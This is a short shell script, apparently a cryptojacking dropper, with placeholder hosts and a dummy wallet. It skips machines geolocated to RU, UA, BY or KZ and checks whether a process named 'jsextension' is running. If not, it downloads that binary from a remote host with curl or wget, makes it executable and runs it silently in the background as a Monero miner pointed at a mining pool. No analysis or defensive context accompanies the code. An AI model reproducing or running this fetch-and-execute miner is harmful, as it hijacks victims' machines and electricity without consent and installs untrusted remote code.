IP=$(curl -k https://geo.freegeoip.example/json/ | grep -E 'RU|UA|BY|KZ')
if [ -z "$IP" ]
then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
    then
        curl http://159.invalid/download/jsextension -o jsextension
        if [ ! -f jsextension ]
        then
            wget http://159.invalid/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.minexmr.example:443 -u 48ExampleMoneroWa11etAddressNotRea1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
